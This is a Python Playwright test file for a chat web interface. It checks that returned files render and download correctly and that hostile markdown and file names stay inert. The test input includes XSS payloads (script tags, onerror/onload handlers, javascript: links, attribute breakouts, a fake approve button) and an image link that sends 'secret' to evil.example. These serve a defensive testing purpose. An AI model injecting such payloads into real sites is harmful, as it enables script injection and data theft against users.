"""Files on the page, and names and text that want to do harm."""

from __future__ import annotations

import pytest
from playwright.async_api import FilePayload, Page, Request, expect

from core.domain.messages import Answer, Card, File
from tests.fakes.card_rows import card_row
from tests.web.page.browser import say
from tests.web.web_ponte import Turn, WebPonte

pytestmark = pytest.mark.asyncio(loop_scope="session")


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d4944415478da63fccfc0f01f0005050201c2b0a5f70000000049454e44ae426082"
)


async def test_what_python_made_and_its_code_are_two_tabs_and_plots_open_large(
    ponte: WebPonte, page: Page
) -> None:
    code = "print('<b>6</b>')  # <script>document.title='owned'</script>\nx = 7"
    definition = {
        "plot.png": ("image/png", PNG),
        "x.html": ("text/html", b"<script>"),
        "code.py": ("text/x-python", code.encode()),
    }

    async def script(turn: Turn) -> Answer:
        where, owner = turn.message.address.conversation, turn.message.author
        records = [
            await ponte.files.put("e", name, *each, owner, where)
            for name, each in definition.items()
        ]
        return Answer("Here.", files=tuple(records))

    ponte.script = script
    await say(page, "draw")
    image = page.get_by_role("img", name="plot.png")
    await expect(image).to_be_visible()
    assert await image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
    view = page.locator(".ran pre")
    await expect(view).to_have_count(0)
    await page.get_by_role("tab", name="Result").focus()
    await page.keyboard.press("ArrowRight")
    await expect(page.get_by_role("tab", name="Code")).to_be_focused()
    await expect(view).to_have_text(code)
    await expect(view).to_be_visible()
    await expect(image).to_be_hidden()
    assert await page.title() != "owned"
    for name, tab in (("code.py", "Code"), ("x.html", "Result")):
        await page.get_by_role("tab", name=tab).click()
        async with page.expect_download() as download:
            await page.get_by_role("link", name=name).click()
        assert (await download.value).suggested_filename == name
    await image.click()
    await expect(page.locator("#picture")).to_be_visible()
    assert await page.locator("#large").evaluate("one => one.complete && one.naturalWidth") == 1
    await page.keyboard.press("Escape")
    await expect(page.locator("#picture")).to_be_hidden()


HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
[click](javascript:document.title='owned') ![leak](https://evil.example/?q=secret)
<button class="approve">Approve</button> <style>body{display:none}</style>
<svg onload="document.title='owned'"> [x](https://a.example" onmouseover="document.title='owned')
"""


async def test_hostile_markdown_and_file_names_do_nothing(ponte: WebPonte, page: Page) -> None:
    name = "<img src=x onerror=\"document.title='owned'\">.txt"

    async def script(turn: Turn) -> Answer:
        await turn.show(HOSTILE)
        card = Card("abc234", "change", HOSTILE, HOSTILE, (card_row({HOSTILE: 1}, {}),))
        return Answer(HOSTILE, cards=(card,), files=(File("f", name, "image/svg+xml", 1),))

    ponte.script = script
    questions: list[str] = []

    def on_request(request: Request) -> None:
        questions.append(request.url)

    page.on("request", on_request)
    await page.set_input_files("#files", FilePayload(name=name, mimeType="x/y", buffer=b"1"))
    await say(page, HOSTILE)
    await expect(page.locator(".card")).to_be_visible()
    await page.reload()
    await expect(page.locator(".card")).to_be_visible()
    assert await page.title() != "owned"
    foreign = page.locator("main button.approve, main script, main style, main svg:not(.icon)")
    assert await foreign.count() == 0
    assert await page.locator("main img").count() == 0
    page.remove_listener("request", on_request)
    assert all(url.startswith(ponte.web.address) for url in questions)
